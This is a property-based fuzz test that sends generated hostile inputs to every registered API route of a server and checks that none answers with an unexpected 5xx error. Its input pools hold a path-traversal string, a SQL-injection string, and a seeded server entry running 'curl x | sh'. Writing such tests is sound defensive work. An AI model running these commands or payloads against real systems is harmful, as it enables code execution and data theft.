// Property-based fuzz of every registered route (issue 13): path parameters, query strings
// and bodies from fast-check (hostile numbers such as 1e20 and Infinity, leap-second and
// impossible dates, NUL and other control characters, unknown fields, wrong types, deep
// and huge values), sent in process with app.inject as a signed-in owner (or with the agent
// key on agent routes), on both databases. No answer may be a 5xx other than 503 (busy) or
// 507 (quota). Fixed seed; PALISADE_FUZZ_RUNS changes the number of cases per database.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { inviteUser, makeTestApp, setupOwner, type Client, type TestApp } from './helpers/app.js';
import { dialects, PG_SKIP_REASON, skipReason } from './helpers/databases.js';
import { report, server } from './inventory/fixtures.js';

const RUNS = Number(process.env.PALISADE_FUZZ_RUNS ?? 5000);
const SEED = 20261204;

// routes whose success would end the fuzzing session itself
const SKIP = new Set(['POST /api/v1/auth/logout', 'POST /api/v1/auth/refresh']);

type Json = Record<string, unknown>;
interface Route {
  method: string;
  url: string;
  schema: Json;
  agent: boolean;
}

const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom('1e20', '1e308', '-1e20', 'Infinity', '-Infinity', 'NaN', '0x10', '1_000', '-0', '9007199254740993', '', ' 1', '1.5', '00'),
);
const hostileDate = fc.oneof(
  fc.constantFrom('2016-12-31T23:59:60Z', '2026-02-30T00:00:00Z', '2026-13-01T00:00:00Z', '2026-01-01T24:00:00Z', '0000-01-01T00:00:00Z', '9999-12-31T23:59:59.999999999+23:59', '2026-01-01T00:00:00+24:00', '2026-01-01', 'now', '-271821-04-19T00:00:00Z'),
  fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
);
const hostileString = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom('\u0000', 'a\u0000b', '%00', '../../etc/passwd', "' or 1=1 --", '\u202e', '😀'.repeat(20), 'x'.repeat(5000), '{"a":1}', '__proto__', 'constructor'),
  hostileDate,
);
const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(true, false, null) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 5 }) },
);

function valueFor(schema: Json | undefined): fc.Arbitrary<unknown> {
  const type = schema?.type;
  const types = Array.isArray(type) ? type : [type];
  const typed: fc.Arbitrary<unknown>[] = [];
  if (Array.isArray(schema?.enum)) typed.push(fc.constantFrom(...(schema!.enum as unknown[])));
  if (types.includes('integer') || types.includes('number')) typed.push(hostileNumber);
  if (types.includes('string')) typed.push(schema?.format === 'date-time' ? hostileDate : hostileString);
  if (types.includes('boolean')) typed.push(fc.boolean());
  return typed.length ? fc.oneof({ weight: 3, arbitrary: fc.oneof(...typed) }, { weight: 1, arbitrary: anyValue }) : anyValue;
}

function objectFor(schema: Json | undefined): fc.Arbitrary<Record<string, unknown>> {
  const props = (schema?.properties ?? {}) as Record<string, Json>;
  const known = Object.fromEntries(Object.entries(props).map(([k, s]) => [k, valueFor(s)]));
  const extra = fc.dictionary(fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('__proto__', 'a\u0000', 'constructor')), anyValue, { maxKeys: 2 });
  return fc.tuple(fc.record(known, { requiredKeys: [] }), fc.oneof({ weight: 4, arbitrary: fc.constant({}) }, { weight: 1, arbitrary: extra })).map(([a, b]) => ({ ...b, ...a }));
}

function queryString(q: Record<string, unknown>): string {
  const parts: string[] = [];
  for (const [k, v] of Object.entries(q)) {
    for (const x of Array.isArray(v) ? v : [v]) parts.push(`${encodeURIComponent(k)}=${encodeURIComponent(typeof x === 'string' ? x : JSON.stringify(x) ?? '')}`);
  }
  return parts.length ? `?${parts.join('&')}` : '';
}

for (const dialect of dialects) {
  describe.skipIf(skipReason(dialect))(`route fuzz on ${dialect}${skipReason(dialect) ? ` (${PG_SKIP_REASON})` : ''}`, () => {
    let t: TestApp;
    let owner: Client;
    let key: string;
    const ids: string[] = [];
    let routes: Route[] = [];

    beforeAll(async () => {
      process.env.PALISADE_INGEST_RATE_LIMIT = '100000';
      t = await makeTestApp(dialect);
      const o = await setupOwner(t.app);
      owner = o.client;
      ids.push(o.userId, o.orgId);
      ids.push((await inviteUser(t.app, owner, 'admin@fuzz.test', 'admin')).userId);
      key = (await owner.post('/api/v1/agent-keys', { name: 'fuzz' })).json().key;
      const r = await t.app.inject({ method: 'POST', url: '/api/v1/agent/report', headers: { 'x-api-key': key, 'content-type': 'application/json' }, payload: JSON.stringify(report([server({ name: 'shell', command: 'bash', args: ['-c', 'curl x | sh'] })])) });
      expect(r.statusCode).toBe(200);
      for (const path of ['/api/v1/servers', '/api/v1/hosts', '/api/v1/alerts', '/api/v1/agent-keys', '/api/v1/invitations']) {
        for (const item of ((await owner.get(path)).json().items ?? []) as Array<{ id: string }>) ids.push(item.id);
      }
      routes = t.platform.openapi.routes
        .filter((r) => r.url.startsWith('/api/') && !SKIP.has(`${r.method} ${r.url}`))
        .map((r) => ({ method: r.method, url: r.url, schema: (r.schema ?? {}) as Json, agent: r.access?.kind === 'agent' }));
      expect(routes.length).toBeGreaterThan(30);
    });
    afterAll(async () => {
      await t?.close();
    });

    it(`no 5xx in ${RUNS} generated requests across every route`, async () => {
      const seen = new Map<string, number>();
      const routeCase = fc
        .nat({ max: 10_000 })
        .chain((i) => {
          const route = routes[i % routes.length]!;
          const paramNames = [...route.url.matchAll(/:([A-Za-z0-9_]+)/g)].map((m) => m[1]!);
          const param = fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...ids) }, { weight: 1, arbitrary: hostileString.filter((s) => s.length > 0) });
          return fc.record({
            route: fc.constant(route),
            params: fc.tuple(...paramNames.map(() => param)).map((vs) => Object.fromEntries(paramNames.map((n, k) => [n, String(vs[k])]))),
            query: objectFor(route.schema.querystring as Json | undefined),
            body: route.method === 'GET' || route.method === 'DELETE' ? fc.constant(undefined) : fc.oneof({ weight: 5, arbitrary: objectFor(route.schema.body as Json | undefined) as fc.Arbitrary<unknown> }, { weight: 1, arbitrary: anyValue }),
          });
        });
      await fc.assert(
        fc.asyncProperty(routeCase, async ({ route, params, query, body }) => {
          const path = route.url.replace(/:([A-Za-z0-9_]+)/g, (_m, n: string) => encodeURIComponent(params[n] ?? 'x'));
          const url = `${path}${queryString(query)}`;
          // never a webhook to anywhere but a closed loopback port (the fuzz sends no traffic off this machine)
          if (body && typeof body === 'object' && typeof (body as Json).url === 'string' && /^https?:/i.test((body as Json).url as string)) (body as Json).url = 'http://127.0.0.1:9/';
          let res: LightMyRequestResponse;
          if (route.agent) {
            res = await t.app.inject({ method: route.method as 'POST', url, headers: { 'x-api-key': key, 'content-type': 'application/json' }, payload: JSON.stringify(body ?? {}) });
          } else {
            res = await owner.request(route.method as 'GET', url, body === undefined ? {} : { body });
          }
          const k = `${route.method} ${route.url} ${res.statusCode}`;
          seen.set(k, (seen.get(k) ?? 0) + 1);
          if (res.statusCode >= 500 && res.statusCode !== 503 && res.statusCode !== 507) {
            throw new Error(`${route.method} ${url} with ${JSON.stringify(body)?.slice(0, 300)} answered ${res.statusCode}: ${res.body.slice(0, 300)}`);
          }
        }),
        { numRuns: RUNS, seed: SEED, endOnFailure: true },
      );
      // every route was reached
      const reached = new Set([...seen.keys()].map((k) => k.split(' ').slice(0, 2).join(' ')));
      expect(reached.size).toBe(routes.length);
    }, 900_000);
  });
}
